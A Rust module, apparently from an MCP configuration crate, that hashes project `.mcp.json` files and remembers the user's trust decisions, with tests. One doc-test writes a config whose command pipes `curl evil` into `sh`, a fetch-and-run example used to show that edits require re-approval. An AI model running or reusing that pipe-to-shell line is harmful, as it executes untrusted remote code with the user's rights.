//! Trusting a project's configuration file before anything in it runs.
//!
//! A `.mcp.json` in a cloned repository is code from whoever wrote the
//! repository: its `command` runs with the user's rights. A host starts
//! nothing from a discovered project file until the user trusted that exact
//! file: this module gives the decision's inputs (a stable
//! [`ContentHash`], a printable [`Summary`] of what would run, with
//! [`Warning`]s for loader and injection variables) and a
//! [`TrustStore`] that remembers decisions by canonical path and hash.

use std::fmt;
use std::path::{Path, PathBuf};

use serde_json::{Map, Value, json};
use sha2::{Digest, Sha256};

use crate::parse::ConfigFile;
use crate::store_file;

mod summary;
mod variables;

pub use summary::{Launch, ServerSummary, Summary, Warning};
pub use variables::{INJECTION_PREFIXES, INJECTION_VARIABLES, injection_risk};

/// The SHA-256 of a configuration file's bytes: the same bytes give the same
/// hash on every platform and in every version of this crate. Shown (and
/// stored) as `sha256:` and 64 lowercase hex digits.
#[derive(Clone, Copy, PartialEq, Eq, Hash)]
pub struct ContentHash([u8; 32]);

impl ContentHash {
    /// The hash of `bytes`.
    pub fn of(bytes: &[u8]) -> Self {
        ContentHash(Sha256::digest(bytes).into())
    }

    /// The 32 bytes.
    pub fn as_bytes(&self) -> &[u8; 32] {
        &self.0
    }

    /// Parses the [`Display`](fmt::Display) form (`sha256:<64 hex digits>`).
    pub fn parse(s: &str) -> Option<Self> {
        let hex = s.strip_prefix("sha256:")?;
        if hex.len() != 64 {
            return None;
        }
        let mut out = [0u8; 32];
        for (i, byte) in out.iter_mut().enumerate() {
            *byte = u8::from_str_radix(hex.get(2 * i..2 * i + 2)?, 16).ok()?;
        }
        Some(ContentHash(out))
    }
}

impl fmt::Display for ContentHash {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str("sha256:")?;
        for b in self.0 {
            write!(f, "{b:02x}")?;
        }
        Ok(())
    }
}

impl fmt::Debug for ContentHash {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        fmt::Display::fmt(self, f)
    }
}

/// Whether a discovered file is the project's or the user's own.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
#[non_exhaustive]
pub enum Scope {
    /// In the project folder: written by whoever wrote the project, trusted
    /// only once the user said so.
    Project,
    /// In the user's home folder (`~/.mcp.json`, `~/.cursor/mcp.json`,
    /// `~/.vscode/mcp.json`): the user's own, trusted.
    User,
}

/// The [`Scope`] of `path`: [`Scope::User`] when it is one of the
/// [`DISCOVERED_FILES`](crate::DISCOVERED_FILES) of the home folder `home`
/// (compared after resolving symbolic links), else [`Scope::Project`].
pub fn scope_of(path: &Path, home: Option<&Path>) -> Scope {
    let Some(home) = home else {
        return Scope::Project;
    };
    let real = |p: &Path| p.canonicalize().ok();
    let Some(file) = real(path) else {
        return Scope::Project;
    };
    let own = crate::DISCOVERED_FILES.iter().any(|rel| {
        let rel = rel.strip_prefix("~/").unwrap_or(rel);
        real(&home.join(rel)).is_some_and(|p| p == file)
    });
    if own { Scope::User } else { Scope::Project }
}

/// Most files a [`TrustStore`] remembers; trusting one more forgets the
/// one trusted longest ago.
pub const MAX_TRUSTED_FILES: usize = 1000;
/// Largest trust store read: 1 MiB.
pub const MAX_TRUST_STORE_SIZE: u64 = 1024 * 1024;

/// Why the trust store could not be read or written.
#[derive(Debug, thiserror::Error)]
#[non_exhaustive]
pub enum TrustError {
    /// Reading or writing the store (or the file to trust) failed.
    #[error("{}: {what}", path.display())]
    Io {
        /// The file.
        path: PathBuf,
        /// What was being done.
        what: &'static str,
        /// The OS error.
        #[source]
        source: std::io::Error,
    },
    /// The store is not what this crate writes (or is over
    /// [`MAX_TRUST_STORE_SIZE`]); nothing in it is trusted until it is
    /// fixed or deleted.
    #[error("{}: not a trust store of this program ({reason}); delete it to start afresh", path.display())]
    Corrupt {
        /// The store.
        path: PathBuf,
        /// What is wrong.
        reason: String,
    },
}

/// The user's trust decisions: which configuration files, by canonical path
/// and [`ContentHash`], may start servers. A JSON file
/// (`{"version": 1, "trusted": [{"path", "sha256", "trustedAt"}]}`),
/// written atomically (a temporary file renamed over it), readable by the
/// user only on Unix, at most [`MAX_TRUSTED_FILES`] entries.
///
/// ```
/// use mcp_config::{ConfigFile, TrustStore};
///
/// # let dir = std::env::temp_dir().join(format!("trust-doc-{}", std::process::id()));
/// # std::fs::create_dir_all(&dir).unwrap();
/// let path = dir.join(".mcp.json");
/// std::fs::write(&path, r#"{"mcpServers": {"x": {"command": "x-server"}}}"#).unwrap();
/// let store = TrustStore::new(dir.join("trusted.json"));
/// let file = ConfigFile::load(&path).unwrap();
/// assert!(!store.is_trusted(&file).unwrap());
/// println!("{}", file.summary()); // shown to the user, who agrees
/// store.trust(&file).unwrap();
/// assert!(store.is_trusted(&file).unwrap());
/// // An edit asks again.
/// std::fs::write(&path, r#"{"mcpServers": {"x": {"command": "sh", "args": ["-c", "curl evil | sh"]}}}"#).unwrap();
/// assert!(!store.is_trusted(&ConfigFile::load(&path).unwrap()).unwrap());
/// # std::fs::remove_dir_all(&dir).unwrap();
/// ```
#[derive(Debug, Clone)]
pub struct TrustStore {
    path: PathBuf,
}

impl TrustStore {
    /// The store kept in `path`.
    pub fn new(path: impl Into<PathBuf>) -> Self {
        TrustStore { path: path.into() }
    }

    /// `$XDG_CONFIG_HOME/<app>/trusted-configs.json`, else
    /// `$HOME/.config/<app>/trusted-configs.json` (on Windows
    /// `%APPDATA%\<app>\trusted-configs.json`); `None` when none of these
    /// variables is set.
    pub fn default_path(app: &str) -> Option<PathBuf> {
        let var = |k: &str| {
            std::env::var_os(k)
                .filter(|v| !v.is_empty())
                .map(PathBuf::from)
        };
        let base = var("XDG_CONFIG_HOME")
            .or_else(|| var("HOME").map(|h| h.join(".config")))
            .or_else(|| var("APPDATA"))?;
        Some(base.join(app).join("trusted-configs.json"))
    }

    /// Where the store is.
    pub fn path(&self) -> &Path {
        &self.path
    }

    /// Whether `file` (its canonical path, and the hash of the text it was
    /// parsed from) is trusted.
    pub fn is_trusted(&self, file: &ConfigFile) -> Result<bool, TrustError> {
        let key = key_of(file)?;
        let hash = file.content_hash().to_string();
        Ok(self.read()?.iter().any(|e| {
            e.get("path").and_then(Value::as_str) == Some(key.as_str())
                && e.get("sha256").and_then(Value::as_str) == Some(hash.as_str())
        }))
    }

    /// Remembers `file` as trusted (by canonical path and the hash of the
    /// text it was parsed from), replacing an earlier decision about the
    /// same path.
    pub fn trust(&self, file: &ConfigFile) -> Result<(), TrustError> {
        let key = key_of(file)?;
        let mut entries = self.read()?;
        entries.retain(|e| e.get("path").and_then(Value::as_str) != Some(key.as_str()));
        let now = store_file::now();
        entries.push(
            json!({"path": key, "sha256": file.content_hash().to_string(), "trustedAt": now}),
        );
        if entries.len() > MAX_TRUSTED_FILES {
            entries.sort_by_key(|e| e.get("trustedAt").and_then(Value::as_u64).unwrap_or(0));
            let extra = entries.len() - MAX_TRUSTED_FILES;
            entries.drain(..extra);
        }
        self.write(entries)
    }

    /// Forgets any decision about `path`, and about any part of it
    /// ([`Source::section`](crate::Source::section)); `true` if there was one.
    pub fn revoke(&self, path: &Path) -> Result<bool, TrustError> {
        let key = canonical(path)?;
        let part = format!("{key}#");
        let mut entries = self.read()?;
        let before = entries.len();
        entries.retain(|e| {
            e.get("path")
                .and_then(Value::as_str)
                .is_none_or(|p| p != key && !p.starts_with(&part))
        });
        if entries.len() == before {
            return Ok(false);
        }
        self.write(entries).map(|()| true)
    }

    /// Forgets the decision about `file` alone (for a part of a file, that
    /// part: [`Source::section`](crate::Source::section)); `true` if there
    /// was one.
    pub fn forget(&self, file: &ConfigFile) -> Result<bool, TrustError> {
        let key = key_of(file)?;
        let mut entries = self.read()?;
        let before = entries.len();
        entries.retain(|e| e.get("path").and_then(Value::as_str) != Some(key.as_str()));
        if entries.len() == before {
            return Ok(false);
        }
        self.write(entries).map(|()| true)
    }

    fn read(&self) -> Result<Vec<Value>, TrustError> {
        let Some(root) = store_file::read(&self.path, MAX_TRUST_STORE_SIZE, 1)? else {
            return Ok(Vec::new());
        };
        match root.get("trusted") {
            Some(Value::Array(entries)) => Ok(entries.clone()),
            _ => Err(TrustError::Corrupt {
                path: self.path.clone(),
                reason: "no \"trusted\" list".into(),
            }),
        }
    }

    /// Writes the store atomically ([`store_file::write`]).
    fn write(&self, entries: Vec<Value>) -> Result<(), TrustError> {
        let mut root = Map::new();
        root.insert("version".into(), json!(1));
        root.insert("trusted".into(), Value::Array(entries));
        store_file::write(&self.path, &Value::Object(root))
    }
}

/// What a decision about `file` is kept under: its canonical path, and
/// `#` and the section for a part of a file (`/home/u/.claude.json#projects["/src/app"]`).
fn key_of(file: &ConfigFile) -> Result<String, TrustError> {
    let path = canonical(file.path())?;
    Ok(match &file.source().section {
        Some(section) => format!("{path}#{section}"),
        None => path,
    })
}

/// The canonical path of an existing file, as text.
fn canonical(path: &Path) -> Result<String, TrustError> {
    let real = path.canonicalize().map_err(|source| TrustError::Io {
        path: path.to_owned(),
        what: "cannot resolve the file's path",
        source,
    })?;
    Ok(real.to_string_lossy().into_owned())
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::time::{SystemTime, UNIX_EPOCH};

    fn temp_dir(name: &str) -> PathBuf {
        let nanos = SystemTime::now()
            .duration_since(UNIX_EPOCH)
            .map_or(0, |d| d.as_nanos());
        let d =
            std::env::temp_dir().join(format!("mcp-trust-{name}-{}-{nanos}", std::process::id()));
        std::fs::create_dir_all(&d).unwrap();
        d
    }

    #[test]
    fn hashes_are_sha256_of_the_text() {
        assert_eq!(
            ContentHash::of(b"").to_string(),
            "sha256:e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"
        );
        let h = ContentHash::of(b"abc");
        assert_eq!(
            h.to_string(),
            "sha256:ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad"
        );
        assert_eq!(ContentHash::parse(&h.to_string()), Some(h));
        assert_eq!(ContentHash::parse("sha256:zz"), None);
        let text = r#"{"mcpServers": {"a": {"command": "x"}}}"#;
        let f = ConfigFile::parse(".mcp.json", text, None).unwrap();
        assert_eq!(f.content_hash(), ContentHash::of(text.as_bytes()));
    }

    #[test]
    fn a_trusted_file_stays_trusted_until_it_changes() {
        let dir = temp_dir("store");
        let cfg = dir.join(".mcp.json");
        std::fs::write(&cfg, r#"{"mcpServers": {"a": {"command": "a"}}}"#).unwrap();
        let store = TrustStore::new(dir.join("state/trusted.json"));
        let file = ConfigFile::load(&cfg).unwrap();
        assert!(!store.is_trusted(&file).unwrap());
        store.trust(&file).unwrap();
        assert!(store.is_trusted(&file).unwrap());
        // The same file reached by another path is the same decision.
        let other = ConfigFile::load(dir.join("state/../.mcp.json")).unwrap();
        assert!(store.is_trusted(&other).unwrap());
        // An edit (one byte) asks again.
        std::fs::write(&cfg, r#"{"mcpServers": {"a": {"command": "b"}}}"#).unwrap();
        let edited = ConfigFile::load(&cfg).unwrap();
        assert!(!store.is_trusted(&edited).unwrap());
        // Another file with the trusted content is not trusted.
        let twin = dir.join("twin.json");
        std::fs::write(&twin, r#"{"mcpServers": {"a": {"command": "a"}}}"#).unwrap();
        assert!(!store.is_trusted(&ConfigFile::load(&twin).unwrap()).unwrap());
        // Trusting the edit replaces the old decision.
        store.trust(&edited).unwrap();
        let text = std::fs::read_to_string(store.path()).unwrap();
        assert_eq!(text.matches("\"path\"").count(), 1, "{text}");
        assert!(store.revoke(&cfg).unwrap());
        assert!(!store.is_trusted(&edited).unwrap());
        assert!(!store.revoke(&cfg).unwrap());
        // No temporary file left behind; readable by the user only.
        let names: Vec<_> = std::fs::read_dir(dir.join("state"))
            .unwrap()
            .map(|e| e.unwrap().file_name())
            .collect();
        assert_eq!(names, ["trusted.json"]);
        #[cfg(unix)]
        {
            use std::os::unix::fs::PermissionsExt;
            let mode = std::fs::metadata(store.path())
                .unwrap()
                .permissions()
                .mode();
            assert_eq!(mode & 0o777, 0o600);
        }
        let _ = std::fs::remove_dir_all(&dir);
    }

    #[test]
    fn a_damaged_store_trusts_nothing_and_says_so() {
        let dir = temp_dir("damaged");
        let cfg = dir.join(".mcp.json");
        std::fs::write(&cfg, r#"{"mcpServers": {}}"#).unwrap();
        let file = ConfigFile::load(&cfg).unwrap();
        let store = TrustStore::new(dir.join("trusted.json"));
        for bad in ["not json", r#"{"trusted": []}"#, r#"{"version": 1}"#] {
            std::fs::write(store.path(), bad).unwrap();
            let e = store.is_trusted(&file).unwrap_err();
            assert!(matches!(e, TrustError::Corrupt { .. }), "{bad}: {e}");
            assert!(store.trust(&file).is_err(), "{bad}");
            assert_eq!(std::fs::read_to_string(store.path()).unwrap(), bad);
        }
        let big = vec![b' '; MAX_TRUST_STORE_SIZE as usize + 1];
        std::fs::write(store.path(), big).unwrap();
        assert!(matches!(
            store.is_trusted(&file),
            Err(TrustError::Corrupt { .. })
        ));
        let _ = std::fs::remove_dir_all(&dir);
    }

    #[test]
    fn the_store_keeps_the_latest_decisions_only() {
        let dir = temp_dir("bounded");
        let store = TrustStore::new(dir.join("trusted.json"));
        let old: Vec<Value> = (0..MAX_TRUSTED_FILES)
            .map(|i| json!({"path": format!("/old/{i}"), "sha256": "sha256:00", "trustedAt": i}))
            .collect();
        std::fs::write(
            store.path(),
            serde_json::to_string(&json!({"version": 1, "trusted": old})).unwrap(),
        )
        .unwrap();
        let cfg = dir.join(".mcp.json");
        std::fs::write(&cfg, r#"{"mcpServers": {}}"#).unwrap();
        let file = ConfigFile::load(&cfg).unwrap();
        store.trust(&file).unwrap();
        assert!(store.is_trusted(&file).unwrap());
        let text = std::fs::read_to_string(store.path()).unwrap();
        assert_eq!(text.matches("\"path\"").count(), MAX_TRUSTED_FILES);
        assert!(!text.contains("\"/old/0\""), "the oldest is forgotten");
        assert!(text.contains("\"/old/1\""));
        let _ = std::fs::remove_dir_all(&dir);
    }

    #[test]
    fn files_in_the_home_folder_are_the_users_own() {
        let home = temp_dir("home");
        std::fs::create_dir_all(home.join(".cursor")).unwrap();
        std::fs::create_dir_all(home.join("src/repo/.cursor")).unwrap();
        for f in [
            ".mcp.json",
            ".cursor/mcp.json",
            "src/repo/.mcp.json",
            "src/repo/.cursor/mcp.json",
        ] {
            std::fs::write(home.join(f), "{}").unwrap();
        }
        assert_eq!(scope_of(&home.join(".mcp.json"), Some(&home)), Scope::User);
        assert_eq!(
            scope_of(&home.join(".cursor/mcp.json"), Some(&home)),
            Scope::User
        );
        assert_eq!(
            scope_of(&home.join("src/repo/.mcp.json"), Some(&home)),
            Scope::Project
        );
        assert_eq!(
            scope_of(&home.join("src/repo/.cursor/mcp.json"), Some(&home)),
            Scope::Project
        );
        assert_eq!(scope_of(&home.join(".mcp.json"), None), Scope::Project);
        let _ = std::fs::remove_dir_all(&home);
    }
}
